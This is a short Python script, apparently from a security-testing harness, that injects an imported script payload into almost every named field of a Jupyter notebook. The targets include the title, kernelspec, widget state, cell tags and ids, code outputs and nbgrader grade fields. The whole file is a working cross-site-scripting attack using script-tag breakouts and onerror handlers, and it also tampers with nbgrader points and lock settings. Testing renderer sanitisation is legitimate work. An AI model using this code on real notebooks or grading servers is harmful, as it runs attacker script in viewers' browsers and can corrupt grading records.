"""Put markup into everything that has a name: cell ids, grade ids, tags, the kernel, the language, the title."""

from attack import ACT
from nbformat import v4

text = f"</script></title></style><script>{ACT}</script><img src=x onerror='{ACT}'>"


def tamper(notebook):
    notebook.metadata.title = text
    notebook.metadata.authors = [{"name": text}]
    notebook.metadata.kernelspec = {"name": text, "display_name": text, "language": text}
    notebook.metadata.language_info = {"name": text, "pygments_lexer": text, "codemirror_mode": {"name": text}}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": text}}}}
    for cell in notebook.cells:
        cell.metadata.tags = [text, "remove_input"]
        cell.metadata.name = cell.metadata.magics_language = text
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.comment = text
            cell.metadata.nbgrader.points = text
        if cell.cell_type == "code":
            cell.outputs = [v4.new_output("display_data", {"text/html": text, "application/javascript": ACT})]
    own = v4.new_code_cell(text, id="mine", metadata={"nbgrader": {"grade_id": text, "locked": text}})
    own["id"] = text
    notebook.cells.append(own)
    notebook.cells.append(v4.new_raw_cell(text, metadata={"format": "text/html", "raw_mimetype": "text/html"}))
